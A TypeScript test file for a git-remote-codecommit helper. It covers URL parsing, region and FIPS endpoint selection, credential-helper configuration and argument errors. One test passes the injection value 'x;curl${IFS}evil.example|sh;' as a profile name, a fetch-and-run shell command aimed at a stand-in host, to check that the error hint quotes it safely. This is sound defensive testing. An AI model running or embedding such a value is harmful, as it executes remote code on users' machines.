// What git-remote-codecommit decides to run (the running itself is proven with real git in test/e2e).
import { afterEach, describe, expect, it } from "bun:test";
import { planRemoteHelper, runRemoteHelper } from "../../src/cli/remote-helper";
import { renderError } from "../../src/cli/render-error";
import { testContext } from "../../src/platform/context";
import { makeSandbox, type Sandbox } from "../helpers/sandbox";

let sbx: Sandbox;
afterEach(() => sbx?.cleanup());

function plan(url: string, opts: { config?: string; env?: Record<string, string>; argv?: string[] } = {}) {
  sbx = makeSandbox(opts.env);
  sbx.writeConfig(
    opts.config ??
      "[profile dev]\nregion = eu-west-1\n[default]\nregion = us-east-2\n[profile fips]\nregion = us-west-2\nuse_fips_endpoint = true\n",
  );
  return planRemoteHelper(opts.argv ?? ["origin", url], testContext({ env: sbx.env }).ctx);
}

const configValue = (p: ReturnType<typeof plan>, key: string) => {
  const n = Number(p.env.GIT_CONFIG_COUNT);
  const values: string[] = [];
  for (let i = 0; i < n; i++) if (p.env[`GIT_CONFIG_KEY_${i}`] === key) values.push(p.env[`GIT_CONFIG_VALUE_${i}`]!);
  return values;
};

describe("git-remote-codecommit", () => {
  it("runs git remote-https on the CodeCommit URL with no credentials in argv", () => {
    const p = plan("codecommit://dev@myrepo");
    expect(p.argv).toEqual(["git", "remote-https", "origin", "https://git-codecommit.eu-west-1.amazonaws.com/v1/repos/myrepo"]);
    expect(p.argv.join(" ")).not.toContain("@git-codecommit");
  });

  it("gives the child an empty helper, then ccsso for that host with the URL's profile, and useHttpPath", () => {
    const p = plan("codecommit://dev@myrepo");
    const helpers = configValue(p, "credential.https://git-codecommit.eu-west-1.amazonaws.com.helper");
    expect(helpers[0]).toBe("");
    expect(helpers[1]).toMatch(/ credential-helper --profile dev$/);
    expect(configValue(p, "credential.https://git-codecommit.eu-west-1.amazonaws.com.useHttpPath")).toEqual(["true"]);
  });

  it("appends to GIT_CONFIG_COUNT entries that are already set", () => {
    const p = plan("codecommit://dev@myrepo", {
      env: { GIT_CONFIG_COUNT: "2", GIT_CONFIG_KEY_0: "a.b", GIT_CONFIG_VALUE_0: "1", GIT_CONFIG_KEY_1: "c.d", GIT_CONFIG_VALUE_1: "2" },
    });
    expect(p.env.GIT_CONFIG_COUNT).toBe("5");
    expect(p.env.GIT_CONFIG_KEY_2).toBe("credential.https://git-codecommit.eu-west-1.amazonaws.com.helper");
    expect(p.env.GIT_CONFIG_KEY_0).toBeUndefined();
  });

  it("takes the region from codecommit::REGION:// over the profile's", () => {
    expect(plan("ap-southeast-2://dev@myrepo").host).toBe("git-codecommit.ap-southeast-2.amazonaws.com");
  });

  it("uses the China suffix for cn- regions", () => {
    expect(plan("cn-north-1://dev@myrepo").host).toBe("git-codecommit.cn-north-1.amazonaws.com.cn");
  });

  it("uses the FIPS host when AWS_USE_FIPS_ENDPOINT is true", () => {
    expect(plan("codecommit://dev@r", { env: { AWS_USE_FIPS_ENDPOINT: "true" } }).host).toBe("git-codecommit-fips.eu-west-1.amazonaws.com");
  });

  it("uses the FIPS host when the profile says use_fips_endpoint", () => {
    expect(plan("codecommit://fips@r").host).toBe("git-codecommit-fips.us-west-2.amazonaws.com");
  });

  it("honours CODE_COMMIT_ENDPOINT and tells the helper the region to sign for", () => {
    const p = plan("codecommit://dev@r", { env: { CODE_COMMIT_ENDPOINT: "land.called.honahlee:8443" } });
    expect(p.argv[3]).toBe("https://land.called.honahlee:8443/v1/repos/r");
    expect(configValue(p, "credential.https://land.called.honahlee:8443.helper")[1]).toMatch(/--profile dev --region eu-west-1$/);
  });

  it("uses AWS_PROFILE's region when the URL names no profile, and passes no --profile", () => {
    const p = plan("codecommit://r", { env: { AWS_PROFILE: "dev" } });
    expect(p.host).toBe("git-codecommit.eu-west-1.amazonaws.com");
    expect(configValue(p, "credential.https://git-codecommit.eu-west-1.amazonaws.com.helper")[1]).toMatch(/credential-helper$/);
  });

  it("uses the default profile's region", () => {
    expect(plan("codecommit://r").host).toBe("git-codecommit.us-east-2.amazonaws.com");
  });

  it("names the profile, repository and fix when there is no region", () => {
    expect(() => plan("codecommit://r", { config: "" })).toThrow(/profile default has no AWS Region for repository r/);
  });

  it("quotes a profile taken from a hostile .gitmodules URL in its hint, so pasting it runs only ccsso", async () => {
    let err: unknown;
    try {
      plan("codecommit://x;curl${IFS}evil.example|sh;@lib");
    } catch (e) {
      err = e;
    }
    const t = testContext();
    renderError(err, t.ctx);
    const hint = t.stderr().trim().split("run: ").at(-1)!;
    expect(hint).toBe("ccsso configure sso --profile 'x;curl${IFS}evil.example|sh;'");
    // The real sh, with ccsso and curl as functions that report being called.
    const r = Bun.spawnSync(["sh", "-c", `ccsso() { echo "ccsso $*"; }\ncurl() { echo CURL-RAN; }\n${hint}`]);
    expect(r.stdout.toString()).toBe("ccsso configure sso --profile x;curl${IFS}evil.example|sh;\n");
  });

  it("names the missing profile and the available ones", () => {
    expect(() => plan("codecommit://nope@r")).toThrow(/profile "nope" was not found/);
  });

  it.each([
    [["origin"], /too few arguments/],
    [["origin", "codecommit://r", "extra"], /too many arguments/],
  ])("checks its arguments like git-remote-codecommit (%j)", (argv, msg) => {
    expect(() => plan("", { argv })).toThrow(msg);
  });

  it("prints one line and exits non-zero for a malformed URL", async () => {
    sbx = makeSandbox();
    const t = testContext({ env: sbx.env });
    expect(await runRemoteHelper(["origin", "codecommit://a/b"], t.ctx)).toBe(2);
    expect(t.stderr()).toMatch(
      /^git-remote-codecommit: malformed URL "codecommit:\/\/a\/b": a path is not allowed .* — use codecommit:\/\/<profile>@<repository> or codecommit::<region>:\/\/<profile>@<repository>\n$/,
    );
  });
});
